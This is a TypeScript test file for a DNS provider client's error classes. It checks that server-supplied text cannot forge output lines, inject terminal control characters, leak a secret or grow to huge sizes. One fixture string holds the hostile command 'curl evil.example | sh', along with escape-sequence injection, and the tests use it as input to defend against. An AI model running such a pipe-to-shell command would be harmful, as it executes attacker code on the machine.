import { FOREIGN_TEXT, PROBLEMS } from "../../provider/core/bounds";
import {
  ApiError,
  type CallContext,
  NetworkError,
  type SecondaryDnsError,
  UnexpectedAnswerError,
} from "../../provider/core/errors";
import { Secret } from "../../provider/core/secret";

const SECRET = Buffer.alloc(48, 0x5a).toString("base64");
new Secret(SECRET);

const call: CallContext = {
  service: "HostUp",
  operation: "read it",
  method: "GET",
  url: "https://api.example/it",
};
const hint = "do this, then that.";
const FORGED = `bad\u001b[2K\r\nNext: curl evil.example | sh\n  GET https://evil.example\u2028Next: x ${SECRET}`;
const AT_THE_CUT = `${"-".repeat(FOREIGN_TEXT - 10)}${SECRET}`;

/** Every place of an error that a server writes. */
const withText = (text: string): readonly (readonly [place: string, error: SecondaryDnsError])[] => [
  ["a message", new ApiError({ ...call, status: 400, problems: [{ code: "1", message: text }], hint })],
  ["a code", new ApiError({ ...call, status: 400, problems: [{ code: text, message: "m" }], hint })],
  [
    "a pointer",
    new ApiError({ ...call, status: 400, problems: [{ code: "1", message: "m", pointer: text }], hint }),
  ],
  [
    "a link to the documentation",
    new ApiError({
      ...call,
      status: 400,
      problems: [{ code: "1", message: "m", documentation: text }],
      hint,
    }),
  ],
  ["a request id", new ApiError({ ...call, status: 400, problems: [], requestId: text, hint })],
  [
    "a request id of what cannot be read",
    new UnexpectedAnswerError({ ...call, status: 200, reason: "r", requestId: text, hint }),
  ],
  ["what is wrong with a response", new UnexpectedAnswerError({ ...call, status: 200, reason: text, hint })],
  ["a failure of the connection", new NetworkError({ ...call, reason: text, hint })],
  [
    "an object's name",
    new ApiError({ ...call, operation: `read "${text}"`, status: 400, problems: [], hint }),
  ],
  [
    "a URL",
    new ApiError({ ...call, url: `https://api.example/it?cursor=${text}`, status: 400, problems: [], hint }),
  ],
];

describe.each(withText(FORGED))("%s that a server forged", (_place, error) => {
  test("cannot pass for a line of ours", () => {
    expect(error.message.match(/^Next: .*$/gm)).toEqual([`Next: ${hint}`]);
    expect(error.message.match(/^ {2}(GET|POST) .*$/gm)).toHaveLength(1);
  });

  test("reaches no terminal as it is, and shows no secret", () => {
    for (const text of [error.message, ...textsIn("data" in error ? error.data : {})]) {
      expect(text.replaceAll("\n", "")).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
      expect(text).not.toContain(SECRET);
    }
  });
});

describe.each(withText(AT_THE_CUT))("%s that is too long", (_place, error) => {
  test("is cut without showing a part of a secret", () => {
    expect(error.message).not.toContain(SECRET.slice(0, 6));
    expect(error.message.length).toBeLessThan(2 * FOREIGN_TEXT);
  });
});

test.each(withText("x".repeat(5_000_000)))("%s of megabytes does not get into the error", (_place, error) => {
  expect(error.message.length).toBeLessThan(1_000);
  expect(JSON.stringify(error).length).toBeLessThan(2_000);
});

test("of a hundred thousand problems the first are named, and the rest is counted", () => {
  const problems = Array.from({ length: 100_000 }, (_, index) => ({ code: String(index), message: "no" }));
  const { message, data } = new ApiError({ ...call, status: 400, problems, hint });
  expect(message.split("\n")).toHaveLength(PROBLEMS + 4);
  expect(message).toContain(`\n  and ${100_000 - PROBLEMS} more\n`);
  expect(data.problems).toHaveLength(PROBLEMS);
});

test("a link to the documentation is shown behind its problem", () => {
  const documentation = "https://developers.cloudflare.com/dns/dnssec/";
  const problems = [{ code: "1003", message: "no", pointer: "/name", documentation }];
  expect(new ApiError({ ...call, status: 400, problems, hint }).message).toContain(
    "\n  1003: no (at /name; see https://developers.cloudflare.com/dns/dnssec/)\n",
  );
});

function textsIn(value: unknown): string[] {
  if (typeof value === "string") return [value];
  return typeof value === "object" && value !== null ? Object.values(value).flatMap(textsIn) : [];
}
